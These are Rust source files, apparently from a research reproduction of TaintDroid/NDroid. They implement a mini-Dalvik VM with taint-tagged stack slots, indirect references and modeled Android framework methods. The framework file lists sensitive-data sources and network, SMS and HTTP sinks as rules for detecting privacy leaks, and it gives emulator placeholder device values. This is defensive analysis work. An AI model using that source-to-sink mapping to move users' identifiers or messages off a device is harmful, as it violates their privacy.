    pub fn method_ids(&self) -> impl Iterator<Item = MethodId> {
        (0..self.methods.len() as u32).map(MethodId)
    }

    /// The method definition for `id`.
    pub fn method(&self, id: MethodId) -> &MethodDef {
        &self.methods[id.0 as usize].1
    }

    /// The class that owns method `id`.
    pub fn method_class(&self, id: MethodId) -> ClassId {
        self.methods[id.0 as usize].0
    }

    /// Looks up a method by class and name.
    ///
    /// # Errors
    ///
    /// [`DvmError::NoSuchMethod`] if absent.
    pub fn find_method(&self, class: ClassId, name: &str) -> Result<MethodId, DvmError> {
        self.classes[class.0 as usize]
            .methods
            .iter()
            .copied()
            .find(|m| self.method(*m).name == name)
            .ok_or_else(|| DvmError::NoSuchMethod {
                class: self.classes[class.0 as usize].name.clone(),
                method: name.to_string(),
            })
    }

    /// Looks up a method as `"Lcls;.name"` in one call.
    ///
    /// # Errors
    ///
    /// [`DvmError::NoSuchClass`] / [`DvmError::NoSuchMethod`].
    pub fn find_method_by_name(&self, class: &str, name: &str) -> Result<MethodId, DvmError> {
        self.find_method(self.find_class(class)?, name)
    }

    /// Looks up an instance or static field by name.
    ///
    /// # Errors
    ///
    /// [`DvmError::NoSuchField`] if absent.
    pub fn find_field(&self, class: ClassId, name: &str) -> Result<FieldId, DvmError> {
        let def = &self.classes[class.0 as usize];
        if let Some(i) = def.instance_fields.iter().position(|f| f.name == name) {
            return Ok(FieldId {
                class,
                index: i as u16,
                is_static: false,
            });
        }
        if let Some(i) = def.static_fields.iter().position(|f| f.name == name) {
            return Ok(FieldId {
                class,
                index: i as u16,
                is_static: true,
            });
        }
        Err(DvmError::NoSuchField {
            class: def.name.clone(),
            field: name.to_string(),
        })
    }

    /// Updates a native method's entry address (used by app builders
    /// that register methods before the native library is assembled).
    ///
    /// # Panics
    ///
    /// Panics if `id` is not a native method.
    pub fn set_native_entry(&mut self, id: MethodId, entry: u32) {
        match &mut Rc::make_mut(&mut self.methods)[id.0 as usize].1.kind {
            MethodKind::Native { entry: e } => *e = entry,
            _ => panic!("method {} is not native", id.0),
        }
    }

    /// The native methods registered in the program, with entry points.
    pub fn native_methods(&self) -> Vec<(MethodId, u32)> {
        self.methods
            .iter()
            .enumerate()
            .filter_map(|(i, (_, m))| match m.kind {
                MethodKind::Native { entry } => Some((MethodId(i as u32), entry)),
                _ => None,
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::taint::Taint;

    fn sample_program() -> (Program, ClassId) {
        let mut p = Program::new();
        let c = p.add_class(ClassDef {
            name: "Lcom/example/Main;".into(),
            instance_fields: vec![FieldDef {
                name: "secret".into(),
                is_reference: true,
            }],
            static_fields: vec![FieldDef {
                name: "counter".into(),
                is_reference: false,
            }],
            methods: vec![],
        });
        p.add_method(
            c,
            MethodDef {
                name: "run".into(),
                shorty: "V".into(),
                registers_size: 4,
                ins_size: 1,
                is_static: false,
                kind: MethodKind::Bytecode(vec![]),
                catch_all: None,
            },
        );
        p.add_method(
            c,
            MethodDef {
                name: "nativeWork".into(),
                shorty: "IL".into(),
                registers_size: 2,
                ins_size: 2,
                is_static: true,
                kind: MethodKind::Native { entry: 0x4a2c_7d88 },
                catch_all: None,
            },
        );
        (p, c)
    }

    #[test]
    fn class_and_method_lookup() {
        let (p, c) = sample_program();
        assert_eq!(p.find_class("Lcom/example/Main;").unwrap(), c);
        assert!(p.find_class("Lmissing;").is_err());
        let m = p.find_method(c, "run").unwrap();
        assert_eq!(p.method(m).name, "run");
        assert_eq!(p.method_class(m), c);
        assert!(p.find_method(c, "nope").is_err());
        assert_eq!(p.class_count(), 1);
    }

    #[test]
    fn field_lookup_distinguishes_static() {
        let (p, c) = sample_program();
        let f = p.find_field(c, "secret").unwrap();
        assert!(!f.is_static);
        let s = p.find_field(c, "counter").unwrap();
        assert!(s.is_static);
        assert!(p.find_field(c, "ghost").is_err());
    }

    #[test]
    fn statics_initialized_clear() {
        let (p, c) = sample_program();
        assert_eq!(p.statics[c.0 as usize], vec![(0, Taint::CLEAR)]);
    }

    #[test]
    fn native_methods_enumerated() {
        let (p, _) = sample_program();
        let natives = p.native_methods();
        assert_eq!(natives.len(), 1);
        assert_eq!(natives[0].1, 0x4a2c_7d88);
        assert_eq!(p.method(natives[0].0).name, "nativeWork");
    }

    #[test]
    fn access_flags_match_paper() {
        let (p, c) = sample_program();
        let run = p.find_method(c, "run").unwrap();
        // Fig. 9 shows AccessFlag 0x1 for the virtual nativeCallback.
        assert_eq!(p.method(run).access_flags(), 0x1);
        let native = p.find_method(c, "nativeWork").unwrap();
        assert_eq!(p.method(native).access_flags(), 0x9);
    }

    #[test]
    fn intern_deduplicates() {
        let mut p = Program::new();
        let a = p.intern("hello");
        let b = p.intern("world");
        let c = p.intern("hello");
        assert_eq!(a, c);
        assert_ne!(a, b);
        assert_eq!(p.strings.len(), 2);
    }

    #[test]
    fn shorty_helpers() {
        let (p, c) = sample_program();
        let run = p.find_method(c, "run").unwrap();
        assert!(p.method(run).returns_void());
        assert!(!p.method(run).returns_reference());
    }
}
