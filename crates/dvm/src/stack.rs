//! TaintDroid's modified interpreter stack (Fig. 1 of the paper).
//!
//! "TaintDroid modifies DVM's stack structure to increase stack size
//! for storing taint labels related to registers. For method
//! invocation, TaintDroid first stores the taint labels interleaved
//! with the parameters … Then it allocates stack slots for callee's
//! local variables and lets the frame pointer point to the new method's
//! first local variable. After that, TaintDroid allocates a
//! StackSaveArea on the top of the stack for saving the caller's
//! information." (§II-B)
//!
//! Frame layout in raw slots, at frame pointer `fp`:
//!
//! ```text
//! fp + 0:  v0        fp + 1:  v0 taint tag
//! fp + 2:  v1        fp + 3:  v1 taint tag
//! …
//! fp + 2n:   StackSaveArea.prev_fp
//! fp + 2n+1: StackSaveArea.method_id
//! fp + 2n+2: StackSaveArea.registers_size
//! fp + 2n+3: StackSaveArea.magic (canary)
//! ```

use crate::class::MethodId;
use crate::error::DvmError;
use crate::taint::Taint;

/// Guest-visible base address of the interpreted stack (frame addresses
/// in the paper's logs look like `0x44bf8bf0`).
pub const STACK_BASE: u32 = 0x44bf_0000;

/// Canary placed in each `StackSaveArea` to catch frame corruption.
const SAVE_AREA_MAGIC: u32 = 0x5AFE_CAFE;

/// Words occupied by a `StackSaveArea`.
const SAVE_AREA_SLOTS: usize = 4;

/// The TaintDroid-modified interpreter stack.
#[derive(Debug, Default, Clone)]
pub struct DvmStack {
    slots: Vec<u32>,
    fp: usize,
    depth: usize,
}

impl DvmStack {
    /// An empty stack.
    pub fn new() -> DvmStack {
        DvmStack {
            slots: Vec::with_capacity(1024),
            fp: 0,
            depth: 0,
        }
    }

    /// Current call depth (number of frames).
    pub fn depth(&self) -> usize {
        self.depth
    }

    /// Pushes a frame for `method` with `registers_size` registers and
    /// the last `args.len()` registers initialized from `args`
    /// (value, taint) — Dalvik's calling convention.
    ///
    /// # Errors
    ///
    /// [`DvmError::ArityMismatch`] if more args than registers.
    pub fn push_frame(
        &mut self,
        method: MethodId,
        registers_size: u16,
        args: &[(u32, Taint)],
    ) -> Result<(), DvmError> {
        if args.len() > registers_size as usize {
            return Err(DvmError::ArityMismatch {
                expected: registers_size,
                got: args.len() as u16,
            });
        }
        let prev_fp = self.fp;
        let new_fp = self.slots.len();
        let n = registers_size as usize;
        // Interleaved value/taint slots, zero/clear initialized.
        self.slots.resize(new_fp + 2 * n + SAVE_AREA_SLOTS, 0);
        // Arguments land in the last `ins` registers.
        let first_in = n - args.len();
        for (i, (value, taint)) in args.iter().enumerate() {
            let reg = first_in + i;
            self.slots[new_fp + 2 * reg] = *value;
            self.slots[new_fp + 2 * reg + 1] = taint.0;
        }
        // StackSaveArea.
        let ssa = new_fp + 2 * n;
        self.slots[ssa] = prev_fp as u32;
        self.slots[ssa + 1] = method.0;
        self.slots[ssa + 2] = registers_size as u32;
        self.slots[ssa + 3] = SAVE_AREA_MAGIC;
        self.fp = new_fp;
        self.depth += 1;
        Ok(())
    }

    /// Pops the current frame, restoring the caller's frame pointer.
    ///
    /// # Panics
    ///
    /// Panics on an empty stack or a corrupted save area (both are
    /// interpreter bugs, not guest-visible conditions).
    pub fn pop_frame(&mut self) {
        assert!(self.depth > 0, "pop on empty stack");
        let n = self.registers_size();
        let ssa = self.fp + 2 * n;
        assert_eq!(self.slots[ssa + 3], SAVE_AREA_MAGIC, "corrupted save area");
        let prev_fp = self.slots[ssa] as usize;
        self.slots.truncate(self.fp);
        self.fp = prev_fp;
        self.depth -= 1;
    }

    /// `registers_size` of the current frame.
    pub fn registers_size(&self) -> usize {
        // Scan forward: the save area is right after the registers. We
        // cached it in the save area itself; recover it from the end of
        // the slot vector (the current frame is always topmost).
        let total = self.slots.len() - self.fp;
        (total - SAVE_AREA_SLOTS) / 2
    }

    /// The method executing in the current frame.
    pub fn current_method(&self) -> MethodId {
        let ssa = self.fp + 2 * self.registers_size();
        MethodId(self.slots[ssa + 1])
    }

    fn check_reg(&self, reg: u16) -> Result<usize, DvmError> {
        if (reg as usize) < self.registers_size() {
            Ok(self.fp + 2 * reg as usize)
        } else {
            Err(DvmError::BadRegister(reg))
        }
    }

    /// Reads register `vreg`.
    ///
    /// # Errors
    ///
    /// [`DvmError::BadRegister`] if out of the frame's range.
    pub fn reg(&self, reg: u16) -> Result<u32, DvmError> {
        Ok(self.slots[self.check_reg(reg)?])
    }

    /// Writes register `vreg`.
    ///
    /// # Errors
    ///
    /// [`DvmError::BadRegister`] if out of the frame's range.
    pub fn set_reg(&mut self, reg: u16, value: u32) -> Result<(), DvmError> {
        let i = self.check_reg(reg)?;
        self.slots[i] = value;
        Ok(())
    }

    /// Reads register `vreg`'s taint tag (the slot interleaved after it).
    ///
    /// # Errors
    ///
    /// [`DvmError::BadRegister`] if out of the frame's range.
    pub fn taint(&self, reg: u16) -> Result<Taint, DvmError> {
        Ok(Taint(self.slots[self.check_reg(reg)? + 1]))
    }

    /// Writes register `vreg`'s taint tag.
    ///
    /// # Errors
    ///
    /// [`DvmError::BadRegister`] if out of the frame's range.
    pub fn set_taint(&mut self, reg: u16, taint: Taint) -> Result<(), DvmError> {
        let i = self.check_reg(reg)?;
        self.slots[i + 1] = taint.0;
        Ok(())
    }

    /// Sets value and taint together.
    ///
    /// # Errors
    ///
    /// [`DvmError::BadRegister`] if out of the frame's range.
    pub fn set(&mut self, reg: u16, value: u32, taint: Taint) -> Result<(), DvmError> {
        let i = self.check_reg(reg)?;
        self.slots[i] = value;
        self.slots[i + 1] = taint.0;
        Ok(())
    }

    /// Guest-visible address of the current frame (for logs like
    /// `curFrame@0x44bf8bf0`).
    pub fn frame_guest_addr(&self) -> u32 {
        STACK_BASE + 4 * self.fp as u32
    }

    /// Guest-visible address of register `vreg`'s **taint slot** (the
    /// paper's "method frame slot at address 0x44bf8c14", Fig. 9).
    pub fn taint_slot_guest_addr(&self, reg: u16) -> u32 {
        STACK_BASE + 4 * (self.fp as u32 + 2 * reg as u32 + 1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn push_places_args_in_last_registers() {
        let mut s = DvmStack::new();
        s.push_frame(
            MethodId(0),
            5,
            &[(0xAA, Taint::IMEI), (0xBB, Taint::CLEAR)],
        )
        .unwrap();
        // registers_size 5, ins 2 → args in v3, v4.
        assert_eq!(s.reg(3).unwrap(), 0xAA);
        assert_eq!(s.taint(3).unwrap(), Taint::IMEI);
        assert_eq!(s.reg(4).unwrap(), 0xBB);
        assert_eq!(s.taint(4).unwrap(), Taint::CLEAR);
        assert_eq!(s.reg(0).unwrap(), 0);
        assert_eq!(s.registers_size(), 5);
        assert_eq!(s.current_method(), MethodId(0));
    }

    #[test]
    fn taints_are_interleaved_with_values() {
        let mut s = DvmStack::new();
        s.push_frame(MethodId(7), 2, &[]).unwrap();
        s.set(0, 123, Taint::SMS).unwrap();
        s.set(1, 456, Taint::CONTACTS).unwrap();
        // Raw layout check: [v0, t0, v1, t1, ssa...]
        assert_eq!(s.slots[0], 123);
        assert_eq!(s.slots[1], Taint::SMS.0);
        assert_eq!(s.slots[2], 456);
        assert_eq!(s.slots[3], Taint::CONTACTS.0);
    }

    #[test]
    fn nested_frames_restore_on_pop() {
        let mut s = DvmStack::new();
        s.push_frame(MethodId(1), 2, &[(1, Taint::CLEAR)]).unwrap();
        s.set(0, 42, Taint::IMEI).unwrap();
        s.push_frame(MethodId(2), 3, &[(9, Taint::SMS)]).unwrap();
        assert_eq!(s.depth(), 2);
        assert_eq!(s.current_method(), MethodId(2));
        assert_eq!(s.reg(2).unwrap(), 9);
        s.pop_frame();
        assert_eq!(s.depth(), 1);
        assert_eq!(s.current_method(), MethodId(1));
        assert_eq!(s.reg(0).unwrap(), 42);
        assert_eq!(s.taint(0).unwrap(), Taint::IMEI);
    }

    #[test]
    fn register_bounds_enforced() {
        let mut s = DvmStack::new();
        s.push_frame(MethodId(0), 2, &[]).unwrap();
        assert!(s.reg(1).is_ok());
        assert_eq!(s.reg(2).unwrap_err(), DvmError::BadRegister(2));
        assert!(s.set_reg(5, 0).is_err());
        assert!(s.taint(2).is_err());
    }

    #[test]
    fn arity_checked() {
        let mut s = DvmStack::new();
        let err = s
            .push_frame(MethodId(0), 1, &[(0, Taint::CLEAR), (1, Taint::CLEAR)])
            .unwrap_err();
        assert!(matches!(err, DvmError::ArityMismatch { .. }));
    }

    #[test]
    fn guest_addresses_are_in_stack_range() {
        let mut s = DvmStack::new();
        s.push_frame(MethodId(0), 3, &[]).unwrap();
        let fa = s.frame_guest_addr();
        assert_eq!(fa, STACK_BASE);
        let ta = s.taint_slot_guest_addr(1);
        assert_eq!(ta, STACK_BASE + 4 * 3);
        s.push_frame(MethodId(1), 2, &[]).unwrap();
        assert!(s.frame_guest_addr() > fa);
    }
}
