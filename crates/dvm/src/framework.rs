//! Modeled Android-framework methods: taint sources, Java-context
//! sinks, and small helpers.
//!
//! TaintDroid "adds taints to the sources of sensitive information (GPS
//! data, SMS messages, IMSI, IMEI, etc.) of an Android device" (§II-B)
//! and checks whether taints reach selected sinks; the network methods
//! are sinks (§VI-D). The device values below match the Android
//! emulator defaults that appear in the paper's logs (Fig. 9 shows
//! `Line1Number = 15555215554`, `NetworkOperator = 310260`).

use crate::class::{ClassDef, MethodDef, MethodKind, Program};
use crate::taint::Taint;

/// Identifiers of modeled framework methods.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Intrinsic {
    /// `TelephonyManager.getDeviceId()` → IMEI-tainted string.
    GetDeviceId,
    /// `TelephonyManager.getSubscriberId()` → IMSI-tainted string.
    GetSubscriberId,
    /// `TelephonyManager.getLine1Number()` → phone-number-tainted string.
    GetLine1Number,
    /// `TelephonyManager.getSimSerialNumber()` → ICCID-tainted string.
    GetSimSerialNumber,
    /// `TelephonyManager.getNetworkOperator()` → IMSI-tainted string.
    GetNetworkOperator,
    /// `ContactsProvider.queryId()` → contacts-tainted string.
    QueryContactId,
    /// `ContactsProvider.queryName()` → contacts-tainted string.
    QueryContactName,
    /// `ContactsProvider.queryEmail()` → contacts-tainted string.
    QueryContactEmail,
    /// `SmsProvider.queryLastMessage()` → SMS-tainted string.
    QueryLastSms,
    /// `LocationManager.getLastKnownLocation()` → location-tainted string.
    GetLastKnownLocation,
    /// `AccountManager.getAccountName()` → account-tainted string.
    GetAccountName,
    /// `Socket.send(dest, data)` — **sink**: leaks if `data` is tainted.
    NetworkSend,
    /// `SmsManager.sendTextMessage(number, text)` — **sink**.
    SmsSend,
    /// `HttpClient.post(url)` — **sink**: the URL itself is the data
    /// (QQPhoneBook exfiltrates through URL parameters, Fig. 6).
    HttpPost,
    /// `Log.d(tag, msg)` — *not* a sink; used by benign apps.
    LogDebug,
    /// `String.concat(a, b)` → taint(a) ∪ taint(b).
    StringConcat,
    /// `String.length(s)` → int with taint(s).
    StringLength,
    /// `String.valueOf(i)` → string with the register's taint.
    StringValueOf,
    /// `Throwable.getMessage(ex)` → the exception's message string.
    ThrowableGetMessage,
}

impl Intrinsic {
    /// Whether the intrinsic is a Java-context sink TaintDroid monitors.
    pub fn is_sink(self) -> bool {
        matches!(
            self,
            Intrinsic::NetworkSend | Intrinsic::SmsSend | Intrinsic::HttpPost
        )
    }

    /// Whether the intrinsic is a taint source.
    pub fn source_taint(self) -> Option<Taint> {
        match self {
            Intrinsic::GetDeviceId => Some(Taint::IMEI),
            Intrinsic::GetSubscriberId | Intrinsic::GetNetworkOperator => Some(Taint::IMSI),
            Intrinsic::GetLine1Number => Some(Taint::PHONE_NUMBER),
            Intrinsic::GetSimSerialNumber => Some(Taint::ICCID),
            Intrinsic::QueryContactId
            | Intrinsic::QueryContactName
            | Intrinsic::QueryContactEmail => Some(Taint::CONTACTS),
            Intrinsic::QueryLastSms => Some(Taint::SMS),
            Intrinsic::GetLastKnownLocation => Some(Taint::LOCATION_LAST),
            Intrinsic::GetAccountName => Some(Taint::ACCOUNT),
            _ => None,
        }
    }
}

/// The simulated device identity returned by the framework sources.
#[derive(Debug, Clone)]
pub struct DeviceProfile {
    /// IMEI.
    pub device_id: String,
    /// IMSI.
    pub subscriber_id: String,
    /// Phone number (the emulator's `15555215554`, as in Fig. 9).
    pub line1_number: String,
    /// SIM serial (ICCID).
    pub sim_serial: String,
    /// Mobile network operator (the emulator's `310260`, as in Fig. 9).
    pub network_operator: String,
    /// Contact record: (id, name, email) — PoC case 2's
    /// `("1", "Vincent", "cx@gg.com")` (Fig. 8).
    pub contact: (String, String, String),
    /// Last received SMS body.
    pub last_sms: String,
    /// Last known location.
    pub location: String,
    /// Account name.
    pub account: String,
}

impl Default for DeviceProfile {
    fn default() -> DeviceProfile {
        DeviceProfile {
            device_id: "000000000000000".into(),
            subscriber_id: "310260000000000".into(),
            line1_number: "15555215554".into(),
            sim_serial: "89014103211118510720".into(),
            network_operator: "310260".into(),
            contact: ("1".into(), "Vincent".into(), "cx@gg.com".into()),
            last_sms: "secret meeting at 5pm".into(),
            location: "22.3364,114.2655".into(),
            account: "user@example.com".into(),
        }
    }
}

/// Installs the modeled framework classes into `program`.
///
/// Returns nothing; apps reference the methods by class/name, e.g.
/// `program.find_method_by_name("Landroid/telephony/TelephonyManager;",
/// "getDeviceId")`.
pub fn install_framework(program: &mut Program) {
    let intrinsic = |name: &str, shorty: &str, which: Intrinsic| MethodDef {
        name: name.into(),
        shorty: shorty.into(),
        registers_size: shorty.len() as u16 - 1,
        ins_size: shorty.len() as u16 - 1,
        is_static: true,
        kind: MethodKind::Intrinsic(which),
        catch_all: None,
    };

    let telephony = program.add_class(ClassDef {
        name: "Landroid/telephony/TelephonyManager;".into(),
        ..ClassDef::default()
    });
    program.add_method(telephony, intrinsic("getDeviceId", "L", Intrinsic::GetDeviceId));
    program.add_method(
        telephony,
        intrinsic("getSubscriberId", "L", Intrinsic::GetSubscriberId),
    );
    program.add_method(
        telephony,
        intrinsic("getLine1Number", "L", Intrinsic::GetLine1Number),
    );
    program.add_method(
        telephony,
        intrinsic("getSimSerialNumber", "L", Intrinsic::GetSimSerialNumber),
    );
    program.add_method(
        telephony,
        intrinsic("getNetworkOperator", "L", Intrinsic::GetNetworkOperator),
    );

    let contacts = program.add_class(ClassDef {
        name: "Landroid/provider/ContactsProvider;".into(),
        ..ClassDef::default()
    });
    program.add_method(contacts, intrinsic("queryId", "L", Intrinsic::QueryContactId));
    program.add_method(
        contacts,
        intrinsic("queryName", "L", Intrinsic::QueryContactName),
    );
    program.add_method(
        contacts,
        intrinsic("queryEmail", "L", Intrinsic::QueryContactEmail),
    );

    let sms = program.add_class(ClassDef {
        name: "Landroid/provider/SmsProvider;".into(),
        ..ClassDef::default()
    });
    program.add_method(sms, intrinsic("queryLastMessage", "L", Intrinsic::QueryLastSms));

    let location = program.add_class(ClassDef {
        name: "Landroid/location/LocationManager;".into(),
        ..ClassDef::default()
    });
    program.add_method(
        location,
        intrinsic(
            "getLastKnownLocation",
            "L",
            Intrinsic::GetLastKnownLocation,
        ),
    );

    let accounts = program.add_class(ClassDef {
        name: "Landroid/accounts/AccountManager;".into(),
        ..ClassDef::default()
    });
    program.add_method(
        accounts,
        intrinsic("getAccountName", "L", Intrinsic::GetAccountName),
    );

    let socket = program.add_class(ClassDef {
        name: "Ljava/net/Socket;".into(),
        ..ClassDef::default()
    });
    program.add_method(socket, intrinsic("send", "VLL", Intrinsic::NetworkSend));

    let sms_mgr = program.add_class(ClassDef {
        name: "Landroid/telephony/SmsManager;".into(),
        ..ClassDef::default()
    });
    program.add_method(
        sms_mgr,
        intrinsic("sendTextMessage", "VLL", Intrinsic::SmsSend),
    );

    let http = program.add_class(ClassDef {
        name: "Lorg/apache/http/HttpClient;".into(),
        ..ClassDef::default()
    });
    program.add_method(http, intrinsic("post", "VL", Intrinsic::HttpPost));

    let log = program.add_class(ClassDef {
        name: "Landroid/util/Log;".into(),
        ..ClassDef::default()
    });
    program.add_method(log, intrinsic("d", "VLL", Intrinsic::LogDebug));

    let string = program.add_class(ClassDef {
        name: "Ljava/lang/String;".into(),
        ..ClassDef::default()
    });
    program.add_method(string, intrinsic("concat", "LLL", Intrinsic::StringConcat));
    program.add_method(string, intrinsic("length", "IL", Intrinsic::StringLength));
    program.add_method(string, intrinsic("valueOf", "LI", Intrinsic::StringValueOf));

    let throwable = program.add_class(ClassDef {
        name: "Ljava/lang/Throwable;".into(),
        ..ClassDef::default()
    });
    program.add_method(
        throwable,
        intrinsic("getMessage", "LL", Intrinsic::ThrowableGetMessage),
    );

    // Exception classes native code may ThrowNew (resolved by
    // FindClass; they carry no methods of their own — getMessage lives
    // on Throwable).
    for exc in [
        "Ljava/lang/RuntimeException;",
        "Ljava/lang/IllegalArgumentException;",
        "Ljava/lang/IllegalStateException;",
        "Ljava/io/IOException;",
    ] {
        program.add_class(ClassDef {
            name: exc.into(),
            ..ClassDef::default()
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn framework_installs_all_classes() {
        let mut p = Program::new();
        install_framework(&mut p);
        for class in [
            "Landroid/telephony/TelephonyManager;",
            "Landroid/provider/ContactsProvider;",
            "Landroid/provider/SmsProvider;",
            "Landroid/location/LocationManager;",
            "Ljava/net/Socket;",
            "Landroid/telephony/SmsManager;",
            "Lorg/apache/http/HttpClient;",
            "Landroid/util/Log;",
            "Ljava/lang/String;",
        ] {
            assert!(p.find_class(class).is_ok(), "missing {class}");
        }
        assert!(p
            .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
            .is_ok());
        assert!(p.find_method_by_name("Ljava/net/Socket;", "send").is_ok());
    }

    #[test]
    fn sources_and_sinks_classified() {
        assert_eq!(Intrinsic::GetDeviceId.source_taint(), Some(Taint::IMEI));
        assert_eq!(
            Intrinsic::QueryLastSms.source_taint(),
            Some(Taint::SMS)
        );
        assert!(Intrinsic::NetworkSend.is_sink());
        assert!(Intrinsic::HttpPost.is_sink());
        assert!(!Intrinsic::LogDebug.is_sink());
        assert!(Intrinsic::LogDebug.source_taint().is_none());
        assert!(Intrinsic::StringConcat.source_taint().is_none());
    }

    #[test]
    fn device_profile_matches_paper_values() {
        let d = DeviceProfile::default();
        assert_eq!(d.line1_number, "15555215554");
        assert_eq!(d.network_operator, "310260");
        assert_eq!(d.contact.1, "Vincent");
        assert_eq!(d.contact.2, "cx@gg.com");
    }
}
