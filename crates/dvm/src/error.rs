//! Error type for the mini-Dalvik VM.

use std::fmt;

/// Errors raised while loading or interpreting Dalvik programs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DvmError {
    /// Class lookup failed.
    NoSuchClass(String),
    /// Method lookup failed.
    NoSuchMethod {
        /// Class searched.
        class: String,
        /// Method name requested.
        method: String,
    },
    /// Field lookup failed.
    NoSuchField {
        /// Class searched.
        class: String,
        /// Field name requested.
        field: String,
    },
    /// A register value was used as an object reference but is not one.
    NotAReference {
        /// The raw register value.
        value: u32,
    },
    /// An object id did not resolve (freed or never allocated).
    DanglingObject(u32),
    /// An indirect reference did not resolve.
    BadIndirectRef(u32),
    /// The object at hand has the wrong kind for the operation.
    WrongObjectKind {
        /// What the operation needed.
        expected: &'static str,
    },
    /// Array index out of bounds.
    IndexOutOfBounds {
        /// Requested index.
        index: u32,
        /// Array length.
        len: u32,
    },
    /// Field index out of bounds for the instance.
    BadFieldIndex(u32),
    /// A bytecode branch target fell outside the method.
    BadBranchTarget(i32),
    /// Interpreter register index out of the frame's range.
    BadRegister(u16),
    /// Argument count does not match the method's `ins` size.
    ArityMismatch {
        /// Expected argument slots.
        expected: u16,
        /// Provided argument slots.
        got: u16,
    },
    /// Execution exceeded the configured fuel (instruction budget).
    OutOfFuel,
    /// Division by zero in bytecode.
    DivideByZero,
    /// A Java exception propagated out of the outermost frame.
    UncaughtException(String),
    /// The method invoked has no body of the expected kind.
    NotInterpretable(String),
    /// A failure surfaced from the native execution environment.
    NativeFailure(String),
}

impl fmt::Display for DvmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DvmError::NoSuchClass(name) => write!(f, "class not found: {name}"),
            DvmError::NoSuchMethod { class, method } => {
                write!(f, "method not found: {class}.{method}")
            }
            DvmError::NoSuchField { class, field } => {
                write!(f, "field not found: {class}.{field}")
            }
            DvmError::NotAReference { value } => {
                write!(f, "value {value:#x} is not an object reference")
            }
            DvmError::DanglingObject(id) => write!(f, "dangling object id {id}"),
            DvmError::BadIndirectRef(r) => write!(f, "indirect reference {r:#x} does not resolve"),
            DvmError::WrongObjectKind { expected } => {
                write!(f, "object is not a {expected}")
            }
            DvmError::IndexOutOfBounds { index, len } => {
                write!(f, "array index {index} out of bounds (len {len})")
            }
            DvmError::BadFieldIndex(i) => write!(f, "field index {i} out of bounds"),
            DvmError::BadBranchTarget(t) => write!(f, "branch target {t} outside method"),
            DvmError::BadRegister(v) => write!(f, "register v{v} outside frame"),
            DvmError::ArityMismatch { expected, got } => {
                write!(f, "expected {expected} argument slots, got {got}")
            }
            DvmError::OutOfFuel => write!(f, "interpreter fuel exhausted"),
            DvmError::DivideByZero => write!(f, "division by zero"),
            DvmError::UncaughtException(msg) => write!(f, "uncaught exception: {msg}"),
            DvmError::NotInterpretable(what) => write!(f, "cannot interpret {what}"),
            DvmError::NativeFailure(msg) => write!(f, "native execution failed: {msg}"),
        }
    }
}

impl std::error::Error for DvmError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn displays_are_nonempty() {
        let samples: Vec<DvmError> = vec![
            DvmError::NoSuchClass("Lx;".into()),
            DvmError::NoSuchMethod {
                class: "Lx;".into(),
                method: "m".into(),
            },
            DvmError::NotAReference { value: 7 },
            DvmError::DanglingObject(3),
            DvmError::BadIndirectRef(0xa890_0025),
            DvmError::IndexOutOfBounds { index: 5, len: 2 },
            DvmError::OutOfFuel,
            DvmError::DivideByZero,
        ];
        for e in samples {
            assert!(!e.to_string().is_empty());
        }
    }

    #[test]
    fn is_send_sync() {
        fn check<T: Send + Sync>() {}
        check::<DvmError>();
    }
}
