//! The indirect-reference table handed to native code.
//!
//! "Since version 4.0, Android uses indirect references in native code
//! rather than direct pointers to reference objects. … To track
//! information flows through JNI, NDroid has to handle both indirect
//! references and direct pointers" (§II-A). The reference values here
//! follow Android's layout: a serial/index payload tagged with the
//! reference kind in the low two bits (so values look like the
//! `0xa8900025` in the paper's Fig. 9 log).

use crate::error::DvmError;
use crate::heap::ObjectId;

/// The kind of an indirect reference (low two bits of the value).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[repr(u32)]
pub enum IndirectRefKind {
    /// JNI local reference.
    Local = 0x1,
    /// JNI global reference.
    Global = 0x2,
}

/// An opaque 32-bit indirect reference as seen by native code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct IndirectRef(pub u32);

impl IndirectRef {
    /// The null reference.
    pub const NULL: IndirectRef = IndirectRef(0);

    /// The kind tag, if the value is well-formed.
    pub fn kind(self) -> Option<IndirectRefKind> {
        match self.0 & 0x3 {
            0x1 => Some(IndirectRefKind::Local),
            0x2 => Some(IndirectRefKind::Global),
            _ => None,
        }
    }

    /// Whether this is the null reference.
    pub fn is_null(self) -> bool {
        self.0 == 0
    }
}

impl std::fmt::Display for IndirectRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:#010x}", self.0)
    }
}

#[derive(Debug, Clone)]
struct Entry {
    obj: ObjectId,
    serial: u32,
}

/// The per-VM indirect reference table (locals and globals).
#[derive(Debug, Default, Clone)]
pub struct IndirectRefTable {
    locals: Vec<Option<Entry>>,
    globals: Vec<Option<Entry>>,
    next_serial: u32,
}

impl IndirectRefTable {
    /// An empty table.
    pub fn new() -> IndirectRefTable {
        IndirectRefTable {
            locals: Vec::new(),
            globals: Vec::new(),
            // Non-zero starting serial so reference values look like
            // Android's (high bits populated).
            next_serial: 0xA89,
        }
    }

    fn table(&mut self, kind: IndirectRefKind) -> &mut Vec<Option<Entry>> {
        match kind {
            IndirectRefKind::Local => &mut self.locals,
            IndirectRefKind::Global => &mut self.globals,
        }
    }

    /// Registers `obj` and returns a fresh indirect reference.
    pub fn add(&mut self, kind: IndirectRefKind, obj: ObjectId) -> IndirectRef {
        let serial = self.next_serial;
        self.next_serial = self.next_serial.wrapping_add(0x11).max(1);
        let table = self.table(kind);
        let index = table
            .iter()
            .position(|e| e.is_none())
            .unwrap_or_else(|| {
                table.push(None);
                table.len() - 1
            });
        table[index] = Some(Entry { obj, serial });
        IndirectRef(Self::pack(kind, index as u32, serial))
    }

    fn pack(kind: IndirectRefKind, index: u32, serial: u32) -> u32 {
        ((serial & 0xFFF) << 20) | ((index & 0x3FFFF) << 2) | kind as u32
    }

    /// Resolves an indirect reference to the object id — the
    /// reproduction's `dvmDecodeIndirectRef`.
    ///
